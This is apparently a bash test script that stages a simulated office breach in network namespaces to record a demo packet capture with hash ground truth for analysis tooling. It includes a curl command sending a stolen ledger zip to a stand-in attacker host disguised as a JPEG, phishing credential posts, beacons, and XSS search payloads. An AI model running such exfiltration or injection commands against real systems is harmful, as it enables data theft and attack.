#!/bin/bash
# Record the demo capture: a small incident, played by real programs.
#
# usage: record.sh OUTPUT.pcapng [TRUTH]        (as root; takes a minute)
#
# Needs Debian's iproute2 ethtool procps wireshark-common tshark nginx-light
# curl vsftpd ftp dnsmasq-base inetutils-telnetd inetutils-telnet socat
# iputils-ping traceroute python3 brotli zstd openssl.
#
# TRUTH gets a line "SHA-256 size source name" for each file that went over the
# wire, computed from the file itself and not from the capture.  Bodies that
# nginx makes up (error pages, redirects) and FTP listings are not in it.
#
# The network is a switched office (192.0.2.0/24, 2001:db8:1::/64) behind a
# router; the capture is taken at the router's LAN side and sees all of it:
#
#   ws-acct-07 .57   ws-acct-08 .58   clients
#   ns .53           dnsmasq          sw-core .10      telnetd
#   files .24        vsftpd
#   198.51.100.8     www.shop.example, an honest web shop       } nginx, beyond
#   198.51.100.23    cdn.paylink.example, fakes an invoice page } the router
#   198.51.100.77    up.paylink.example, takes what was stolen  }
#   2001:db8:40::80  www.wiki.example, asks for a password      }
#
# The story: ws-acct-08 shops and reads the wiki; ws-acct-07 follows a link to
# an invoice, gives a password away and gets a "PDF" that is a Windows program
# (inert bytes, see make_files.py).  Then it calls home, logs in to the switch
# by telnet, copies the ledger from the file server by FTP and sends it out as
# a picture.  Somebody tries to inject markup into the shop's search.

set -euo pipefail

out=$(realpath "${1:?usage: record.sh OUTPUT.pcapng [TRUTH]}")
truth=$(realpath "${2:-/dev/null}")
here=$(dirname "$(realpath "$0")")
. "$here/../captures/netns.sh"

agent='Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0'
shop=http://www.shop.example
cdn=http://cdn.paylink.example
up=http://up.paylink.example

network()
{
	net_new edge ws7 ws8 ns sw files net
	ip -n "$NET_ID-edge" link add lan0 address 02:00:00:00:00:01 type bridge
	ip -n "$NET_ID-edge" link set lan0 up
	lan_host ws7 57
	lan_host ws8 58
	lan_host ns 53
	lan_host sw 10
	lan_host files 24
	ip netns exec "$NET_ID-edge" ethtool -K lan0 \
	    tx off tso off gso off gro off >/dev/null
	net_addr edge lan0 192.0.2.1/24 2001:db8:1::1/64
	net_link edge wan0 02:00:00:00:01:01 net eth0 02:00:00:00:01:08
	net_addr edge wan0 198.51.100.1/24 2001:db8:40::1/64
	net_addr net eth0 198.51.100.{8,23,77}/24 2001:db8:40::80/64
	net_route net 198.51.100.1 2001:db8:40::1
	net_rate edge wan0 1mbit
	net_rate net eth0 3mbit
	ip netns exec "$NET_ID-edge" sysctl -q -w \
	    net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1
}

# lan_host NAME NUMBER: the address ends are decimal in IPv4, IPv6 and MAC.
lan_host()
{
	net_link edge "p$2" "02:00:00:00:02:$2" "$1" eth0 "02:00:00:00:00:$2"
	ip -n "$NET_ID-edge" link set "p$2" master lan0
	net_addr "$1" eth0 "192.0.2.$2/24" "2001:db8:1::$2/64"
	net_route "$1" 192.0.2.1 2001:db8:1::1
}

# The servers' own resolver and user files; "accounts" exists there only.
etc_files()
{
	mkdir -p "$WORK/etc/pam.d"
	echo 'nameserver 192.0.2.53' >"$WORK/etc/resolv.conf"
	echo '127.0.0.1 localhost' >"$WORK/etc/hosts"
	echo 'hosts: files dns' >"$WORK/etc/nsswitch.conf"
	cat >"$WORK/etc/passwd" <<-END
		root:x:0:0::/root:/bin/sh
		nobody:x:65534:65534::/nonexistent:/usr/sbin/nologin
		accounts:x:20914:65534::$WORK/site/files:/bin/sh
	END
	echo "accounts:$(openssl passwd -6 Noordzee26):20000::::::" \
	    >"$WORK/etc/shadow"
	printf '%s required pam_unix.so\n' auth account session \
	    >"$WORK/etc/pam.d/vsftpd"
}

site()
{
	local f

	cp -r "$here/site" "$WORK/site"
	python3 "$here/make_files.py" "$WORK/site"
	mkdir -p "$WORK/site/files/in" "$WORK/empty" "$WORK/tmp"
	brotli -k "$WORK/site/shop/basket.js"
	zstd -q -k "$WORK/site/shop/stock.json"
	echo 'j.moreau:{PLAIN}getijden' >"$WORK/wiki.htpasswd"
	openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 \
	    -nodes -days 30 -subj /CN=www.shop.example \
	    -keyout "$WORK/shop.key" -out "$WORK/shop.crt" 2>/dev/null
	for f in nginx.conf vsftpd.conf dnsmasq.conf; do
		sed "s|@WORK@|$WORK|g" "$here/$f" >"$WORK/$f"
	done
	find "$WORK/site" -exec touch -d '2026-09-14 06:30:00 UTC' {} +
	chmod -R a+rX "$WORK"
	chown -R 20914 "$WORK/site/files"
	chmod 555 "$WORK/empty"
}

services()
{
	net_start ns dnsmasq -C "$WORK/dnsmasq.conf" 2>"$WORK/dnsmasq.log"
	net_start net nginx -e "$WORK/nginx-error.log" -c "$WORK/nginx.conf"
	net_start files vsftpd "$WORK/vsftpd.conf"
	net_start sw socat TCP-LISTEN:23,reuseaddr,fork \
	    EXEC:"telnetd -h -E $here/switch.sh",nofork
	net_wait ns 53
	net_wait net 80
	net_wait files 21
	net_wait sw 23
}

# known NAME: curl looked this name up before and keeps to the answer, as a
# browser does.
known()
{
	case $1 in
	shop)	echo --resolve www.shop.example:80:198.51.100.8 ;;
	cdn)	echo --resolve cdn.paylink.example:80:198.51.100.23 ;;
	up)	echo --resolve up.paylink.example:80:198.51.100.77 ;;
	esac
}

# browse HOST OPTION... URL...: curl with a browser's manners; what it fetches
# is thrown away.
browse()
{
	local host=$1

	shift
	net_run "$host" curl -sS -A "$agent" -o /dev/null "$@"
}

# truth SOURCE NAME FILE: note what was sent.
truth()
{
	printf '%s %s %s %s\n' "$(sha256sum <"$3" | cut -c1-64)" \
	    "$(stat -c %s "$3")" "$1" "$2" >>"$WORK/truth"
}

fetched()
{
	local url

	for url; do
		truth http-response "$url" "$(sed -e "s|$shop/|$WORK/site/shop/|" \
		    -e "s|$cdn/|$WORK/site/cdn/|" <<<"$url")"
	done
}

shopping()
{
	local each=(-o /dev/null)

	browse ws8 -H 'Accept-Encoding: gzip' "$shop/" "${each[@]}" "$shop/site.css" \
	    "${each[@]}" "$shop/img/logo.png" "${each[@]}" "$shop/img/lamp.png" \
	    "${each[@]}" "$shop/img/ledger.png" "${each[@]}" "$shop/img/dot.gif"
	browse ws8 $(known shop) -H 'Accept-Encoding: gzip, br, zstd' -e "$shop/" \
	    "$shop/basket.js" "${each[@]}" "$shop/stock.json" \
	    "${each[@]}" "$shop/img/harbour.png" "${each[@]}" "$shop/mark.svg" \
	    "${each[@]}" "$shop/favicon.ico"
	sleep 1
	browse ws8 $(known shop) -I "$shop/terms.pdf" "${each[@]}" \
	    --next $(known shop) -sS -A "$agent" -o /dev/null "$shop/terms.pdf"
	browse ws8 $(known shop) -z 'Mon, 14 Sep 2026 06:30:00 GMT' -e "$shop/" \
	    "$shop/img/logo.png" "${each[@]}" "$shop/img/harbour.png"
	browse ws8 -k "https://www.shop.example/site.css"
	truth http-response "$shop/" "$WORK/site/shop/index.html"
	fetched "$shop"/{site.css,img/{logo,lamp,ledger}.png,img/dot.gif} \
	    "$shop"/{basket.js,stock.json,img/harbour.png,mark.svg,terms.pdf}
}

wiki()
{
	browse ws8 --anyauth -u j.moreau:getijden http://www.wiki.example/
	sed 's/@READER@/j.moreau/' "$WORK/site/wiki/index.html" >"$WORK/tmp/wiki"
	truth http-response http://www.wiki.example/ "$WORK/tmp/wiki"
}

invoice()
{
	browse ws7 http://wpad.northgate.example/ 2>/dev/null || true
	browse ws7 -L -H 'Accept-Encoding: gzip' "$cdn/i/0914" -o /dev/null \
	    "$cdn/pay.css" -o /dev/null "$cdn/brand.png"
	sleep 2
	browse ws7 $(known cdn) -L -b 'seen=1' -e "$cdn/?ref=0914" \
	    --data-urlencode user=j.moreau@northgate.example \
	    --data-urlencode 'password=Getijden & tij!' \
	    --data-urlencode ref=0914/nl "$cdn/login"
	sleep 1
	browse ws7 $(known cdn) -r 0-9999 "$cdn/viewer.bin"
	browse ws7 $(known cdn) -r 10000- "$cdn/viewer.bin"
	truth http-response "$cdn/?ref=0914" "$WORK/site/cdn/index.html"
	fetched "$cdn"/{pay.css,brand.png,invoice_0914.pdf}
	head -c 10000 "$WORK/site/cdn/viewer.bin" >"$WORK/tmp/part1"
	tail -c +10001 "$WORK/site/cdn/viewer.bin" >"$WORK/tmp/part2"
	truth http-range "$cdn/viewer.bin 0-9999" "$WORK/tmp/part1"
	truth http-range "$cdn/viewer.bin 10000-15999" "$WORK/tmp/part2"
	truth http-joined "$cdn/viewer.bin" "$WORK/site/cdn/viewer.bin"
}

beacon()
{
	browse ws7 "${@:2}" "$up/gate.php?id=ws-acct-07&n=$1"
	echo ok >"$WORK/tmp/ok"
	truth http-response "$up/gate.php?id=ws-acct-07&n=$1" "$WORK/tmp/ok"
}

switch()
{
	printf '%s\t%s\n' login: admin Password: k4nt00r-9 \
	    sw-core# 'show arr^Hp' sw-core# 'mirror 1/3 to 1/11' \
	    sw-core# exit |
	    net_run ws7 env -i PATH="$PATH" TERM=vt100 \
	    python3 "$here/typist.py" telnet 192.0.2.10 >/dev/null
}

slowly()
{
	local line

	while read -r line; do
		echo "$line"
		sleep 0.6
	done
}

# ftp_in DIRECTORY HOST OPTION...: commands come from standard input.
ftp_in()
{
	local dir=$1 host=$2

	shift 2
	mkdir -p "$WORK/$dir"
	(cd "$WORK/$dir" && slowly | net_run "$host" env HOME="$WORK/$dir" \
	    ftp -n -v "$@" files.northgate.example) >"$WORK/$dir/log" 2>&1
}

ledger()
{
	local f=$WORK/site/files zip=ledger/ledger-2026q3.zip

	ftp_in active ws7 -4 -A <<-'END'
		epsv4 off
		user accounts Noordzee26
		dir
		ascii
		get welcome.txt
		cd ledger
		dir
		binary
		get ledger-2026q3.zip
		quit
	END
	# The passive client stores a file and fetches the rest of another.
	mkdir "$WORK/passive"
	head -c 3000 "$f/$zip" >"$WORK/passive/ledger-2026q3.zip"
	cp "$WORK/site/client/agent.dat" "$WORK/passive/"
	ftp_in passive ws7 -4 -p <<-'END'
		epsv4 off
		user accounts wrong-guess
		user accounts Noordzee26
		cd in
		binary
		put agent.dat
		cd ../ledger
		reget ledger-2026q3.zip
		quit
	END
	ftp_in six ws8 -6 -p <<-'END'
		user accounts Noordzee26
		cd in
		binary
		get agent.dat
		quit
	END
	sed 's/$/\r/' "$f/welcome.txt" >"$WORK/tmp/welcome"
	tail -c +3001 "$f/$zip" >"$WORK/tmp/rest"
	truth ftp /welcome.txt "$WORK/tmp/welcome"
	truth ftp "/$zip" "$f/$zip"
	truth ftp /in/agent.dat "$WORK/site/client/agent.dat"
	truth ftp "/$zip from offset 3000" "$WORK/tmp/rest"
	truth ftp "/in/agent.dat over IPv6" "$WORK/site/client/agent.dat"
	cmp "$f/$zip" "$WORK/active/ledger-2026q3.zip"
	cmp "$f/$zip" "$WORK/passive/ledger-2026q3.zip"
	cmp "$f/in/agent.dat" "$WORK/six/agent.dat"
}

stolen()
{
	local zip=$WORK/site/files/ledger/ledger-2026q3.zip

	browse ws7 -F 'host=ws-acct-07' -F 'note=closing sheet & ledger' \
	    -F "photo=@$zip;filename=IMG_0914.jpg;type=image/jpeg" \
	    "$up/gate.php?id=ws-acct-07"
	truth http-form-part "$up/gate.php?id=ws-acct-07 IMG_0914.jpg" "$zip"
	truth http-response "$up/gate.php?id=ws-acct-07" "$WORK/tmp/ok"
}

# The same markup twice: as a careful client writes it, and as it is.
markup()
{
	browse ws8 $(known shop) "$shop/search?q=%3Cscript%3Ealert(1)%3C/script%3E"
	browse ws8 $(known shop) --globoff --path-as-is "$shop/search?q=<script>alert(1)</script>"
	browse ws8 $(known shop) --globoff --request-target \
	    '/search?q="><img/src=x/onerror=alert(1)>' "$shop/"
	browse ws8 $(known shop) --globoff -A '"><script>alert(2)</script>' --request-target \
	    '/search?q="><img src=x onerror=alert(1)>' "$shop/"
	searched '%3Cscript%3Ealert(1)%3C/script%3E'
	searched '<script>alert(1)</script>'
	searched '"><img/src=x/onerror=alert(1)>'
}

searched()
{
	printf '<!DOCTYPE html>\n<title>Search</title>\n<p>Nothing found for %s</p>\n' \
	    "$1" >"$WORK/tmp/search"
	truth http-response "$shop/search?q=$1" "$WORK/tmp/search"
}

story()
{
	net_run ws8 ping -q -c 2 -i 0.4 www.shop.example
	shopping
	wiki
	sleep 2
	invoice
	beacon 1
	sleep 3
	net_run ws7 traceroute -n -q 1 -N 1 -m 3 -w 1 198.51.100.77
	beacon 2 $(known up)
	switch
	sleep 2
	ledger
	sleep 1
	stolen
	beacon 3 $(known up)
	net_run ws8 ping -q -6 -c 3 -i 0.4 -s 120 www.wiki.example
	sleep 2
	markup
	net_run ws7 ping -q -c 2 -i 0.4 -W 1 192.0.2.99 || true
}

# first_frame FILTER: for the comments in the capture.
first_frame()
{
	tshark -r "$WORK/raw.pcapng" -Y "$1" -T fields -e frame.number \
	    2>/dev/null | head -n 1
}

net_need ip ethtool ss sysctl dumpcap tshark nginx curl vsftpd ftp dnsmasq \
    telnetd telnet socat ping traceroute python3 brotli zstd openssl
WORK=$(mktemp -d)
trap net_clean EXIT
network
etc_files
site
services
sleep 2
net_capture edge lan0 "$WORK/raw.pcapng" --ifdescr 'office LAN, at the router' \
    --capture-comment 'wirefolio demo: invoice mail and transfer of ledger data, played by tests/demo/record.sh'
story >"$WORK/story.log" 2>&1 || { cat "$WORK/story.log" >&2; exit 1; }
net_capture_end
python3 "$here/../captures/pcapng_tidy.py" "$WORK/raw.pcapng" "$out" \
    "$(first_frame 'dns.qry.name == "cdn.paylink.example"')=the link in the mail is opened" \
    "$(first_frame 'telnet && tcp.dstport == 23')=nobody was at this desk any more"
[ "$truth" = /dev/null ] || sort -u -k4 "$WORK/truth" >"$truth"
